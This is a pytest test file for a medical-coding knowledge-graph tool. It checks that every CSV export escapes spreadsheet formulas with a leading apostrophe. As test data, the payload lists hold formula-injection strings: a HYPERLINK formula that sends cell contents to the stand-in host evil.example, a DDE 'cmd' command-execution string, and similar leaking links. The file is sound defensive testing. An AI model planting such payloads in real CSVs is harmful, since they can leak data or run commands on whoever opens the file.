"""Every CSV kg writes is formula-safe: a cell a spreadsheet would run (= + - @ ...) opens with an apostrophe."""

from __future__ import annotations

import csv
import json
import io
import subprocess
import sys

import pytest

from kg.audit import Finding
from kg.audit import to_csv as audit_csv
from kg.claims import CheckFinding
from kg.claims import to_csv as claims_csv
from kg.results import csv_cell
from kg.store import open_store

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "\uff1d1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d") and csv_cell(cell) != cell


def test_query_results_as_csv_through_the_cli(tmp_path):
    store_dir = tmp_path / "store"
    store = open_store(store_dir)
    del store
    values = " ".join('"' + p.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
                      for p in PAYLOADS)
    sparql = tmp_path / "q.rq"
    sparql.write_text(f"SELECT ?x ?n WHERE {{ VALUES ?x {{ {values} }} BIND(-1.5 AS ?n) }}", encoding="utf-8")
    r = subprocess.run([sys.executable, "-m", "kg", "query", "--sparql", str(sparql), "--format", "csv",
                        "--store", str(store_dir)], capture_output=True, timeout=120)
    assert r.returncode == 0, r.stderr
    cells = _cells(r.stdout.decode("utf-8"))
    assert sorted(c for c in cells if c.startswith("'")) == sorted("'" + p for p in PAYLOADS)
    assert not [c for c in cells if _dangerous(c)]
    assert cells.count("-1.5") == len(PAYLOADS), "numbers are left alone"


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\r" not in p])  # these CSVs end lines with LF
def test_audit_and_check_csv_are_formula_safe(payload):
    finding = Finding(kind="label-mismatch", severity="warning", code="77013", system="CPT", document=payload,
                      line=3, message=payload, briefing=payload, official="x", suggestion=payload)
    check = CheckFinding(claim_id=payload, line=2, code="77013", kind="mue", severity="error", message=payload,
                         source="MUE 2025Q4")
    for text in (audit_csv([finding]), claims_csv([check])):
        cells = _cells(text)
        assert "'" + payload in cells and payload not in cells
        assert not [c for c in cells if _dangerous(c)]


# A hostile briefing, through every CSV kg writes (kg audit, kg query, kg check), and the same text unchanged
# in JSON and in the terminal table. Briefing cells are stripped and tabs folded, so tab and CR openings reach
# kg through the claims file (and query values, above).
HOSTILE = ['=HYPERLINK("http://x/leak?"&B2,"Liver cell carcinoma")', "+SUM(1+1)*cmd", "-2+3+cmd", "@SUM(A1:A9)",
           "\uff1d1+1"]
TAXONOMIES = ["207L00000X", "208600000X", "2085R0202X", "207RC0000X", "363L00000X"]


def _kg(*args):
    r = subprocess.run([sys.executable, "-m", "kg", *map(str, args)], capture_output=True, timeout=300)
    assert r.returncode in (0, 1), r.stderr
    return r.stdout.decode("utf-8")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, shared_data):
    d = tmp_path_factory.mktemp("hostile")
    (d / "in").mkdir()
    rows = "".join(f"{code} | {p} | {HOSTILE[(i + 1) % len(HOSTILE)]} |\n" for i, (code, p) in
                   enumerate(zip(TAXONOMIES, HOSTILE)))
    (d / "in" / "77013.txt").write_text("CPT 77013: CT guidance\n| Taxonomy Code | Specialty | Notes |\n|---|---|---|\n"
                                        + rows, encoding="utf-8")
    store = d / "store"
    assert "0 failed" in _kg("build", d / "in", "--store", store)
    _kg("codesets", "load", "--no-icd10cm", "--nucc", shared_data / "nucc_taxonomy_251.csv",
        "--hcpcs", shared_data / "hcpcs_level2_2025oct.csv", "--store", store)
    return store


def _safe(text: str, payloads: list[str]) -> list[str]:
    cells = _cells(text)
    assert not [c for c in cells if _dangerous(c)], "a cell a spreadsheet would run"
    for p in payloads:
        assert p not in cells and "'" + p in cells, p
    return cells


def test_a_hostile_briefing_through_kg_audit(hostile_store):
    common = ("--fail-on", "never", "--no-write", "--store", hostile_store)
    _safe(_kg("audit", "--format", "csv", *common), HOSTILE)
    found = json.loads(_kg("audit", "--format", "json", *common))
    assert sorted(f["briefing"] for f in found if f["kind"] == "label-mismatch") == sorted(HOSTILE)
    table = _kg("audit", "--format", "table", *common)
    assert all(f"the briefing says '{p}', the official" in table for p in HOSTILE)  # quoted by the message, as is


def test_a_hostile_briefing_through_kg_query(hostile_store):
    common = ("-p", "code=77013", "--store", hostile_store)
    _safe(_kg("query", "specialties", "--format", "csv", *common), HOSTILE)
    doc = json.loads(_kg("query", "specialties", "--format", "json", *common))
    values = [b[v]["value"] for b in doc["results"]["bindings"] for v in b]
    assert all(p in values for p in HOSTILE)
    table = _kg("query", "specialties", "--format", "table", *common)
    assert all(p in table for p in HOSTILE) and "'@SUM" not in table


def test_hostile_claims_through_kg_check(hostile_store, tmp_path):
    ids = ['=HYPERLINK("http://x/?"&B2,"x")', "+1+cmd", "-2+3", "@A1", "\t=1", "\r=2"]
    claims = tmp_path / "claims.csv"
    with claims.open("w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["claim_id", "line", "code", "modifiers", "units", "dx", "pos"])
        w.writerows([i, 1, "V9999", "", 1, "", ""] for i in ids)  # V9999: no such HCPCS code, so a finding
    common = ("--claims", claims, "--fail-on", "never", "--store", hostile_store)
    read = [i.strip() for i in ids]  # kg reads a claim id stripped
    _safe(_kg("check", "--format", "csv", *common), read)
    found = json.loads(_kg("check", "--format", "json", *common))
    assert sorted({f["claim_id"] for f in found}) == sorted(read)
    table = _kg("check", "--format", "table", *common)
    assert all(i in table for i in read) and "'@A1" not in table
